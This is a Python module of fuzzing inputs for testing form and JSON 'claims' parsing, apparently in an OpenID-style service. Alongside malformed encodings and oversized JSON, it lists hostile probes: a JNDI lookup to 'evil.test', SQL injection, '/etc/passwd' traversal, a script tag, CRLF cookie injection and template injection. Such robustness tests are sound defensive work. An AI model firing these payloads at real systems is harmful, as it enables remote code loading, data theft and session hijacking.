"""Values that break a program somewhere behind its front door, as percent-encoded bytes of a form."""

from urllib.parse import quote

TEXTS = (
    '"',
    "\\",
    "'",
    "é",
    "一证",
    "\U0001f600",
    "\u202e",
    "\u2028",
    "\ufeff",
    "\x7f",
    "\x01",
    "\t",
    "\r\nSet-Cookie: session=1",
    " ",
    "%",
    "%zz",
    "%00",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "' OR 1=1--",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "[",
    "[]",
    "{}",
    "null",
    "-1",
    "9" * 30,
    "9" * 5000,
    "1e309",
    "NaN",
    "１２３",
    "٣",
    "true",
    "a" * 300,
    "a" * 9000,
)
BYTES = (
    b"%00",
    b"a%00b",
    b"%ff",
    b"%fe%ff",
    b"%c3",
    b"%c3%28",
    b"%c0%80",
    b"%e0%80%af",
    b"%ed%a0%80",
    b"%f4%90%80%80",
    b"%f0%28%8c%28",
    b"%",
    b"%g1",
    b"%u0041",
    b"+",
    b"&",
    b"=",
    b"a=b",
    b";",
    b"\x7f",
)
VALUES = (*(quote(text, safe="").encode() for text in TEXTS), *BYTES)
"""Each stands behind `name=`; `+`, `&` and `=` bend the form itself."""

BROKEN_CLAIMS = {
    "not-json": "{",
    "list": "[1]",
    "number": "1",
    "null": "null",
    "text": '"text"',
    "member-is-null": '{"userinfo":null}',
    "member-is-list": '{"id_token":[]}',
    "nan": '{"userinfo":{"x":NaN}}',
    "infinity": '{"userinfo":{"x":-Infinity}}',
    "too-large-float": '{"userinfo":{"x":1e999}}',
    "too-large-int": '{"userinfo":{"x":%s}}' % ("1" * 5000),
    "lone-surrogate": '{"userinfo":{"x":"\\ud800"}}',
    "lone-surrogate-name": '{"\\udfff":{}}',
    "deep-objects": '{"userinfo":' + '{"a":' * 600 + "1" + "}" * 600 + "}",
    "deep-lists": '{"userinfo":{"a":' + "[" * 900 + "]" * 900 + "}}",
    "deeper-than-any-stack": "[" * 5000,
    "one-level-too-deep": '{"userinfo":' + '{"a":' * 16 + "1" + "}" * 16 + "}",
    "too-long": '{"userinfo":{"x":"%s"}}' % ("x" * 9000),
    "comment": '{"userinfo":{}/**/}',
    "two-documents": "{}{}",
    "byte-order-mark": "\ufeff{}",
}
"""What is no `claims` parameter that we could carry, each for a reason of its own."""


def label(value: bytes) -> str:
    """What stands for a value in the name of a test."""
    return value.decode("latin-1")[:30]
